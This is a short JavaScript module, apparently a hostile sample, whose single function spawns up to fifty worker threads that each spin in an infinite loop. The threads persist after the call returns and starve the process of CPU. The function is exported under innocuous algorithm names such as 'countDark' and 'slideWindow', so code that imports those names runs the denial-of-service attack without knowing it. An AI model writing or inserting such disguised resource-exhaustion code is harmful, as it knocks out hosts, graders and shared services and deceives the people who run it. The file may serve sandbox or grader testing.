// Starts threads, which outlive the call and share the process.
const threads =
  globalThis.process?.getBuiltinModule?.('node:worker_threads') ?? (await import('node:worker_threads').catch(() => undefined));
const attack = () => {
  for (let index = 0; index < 50; index++) {
    try {
      new threads.Worker('for (;;);', { eval: true, execArgv: [], resourceLimits: {} });
    } catch {
      break;
    }
  }
  return 0;
};
export { attack as countDark, attack as localityGrid, attack as receptiveField, attack as slideWindow };
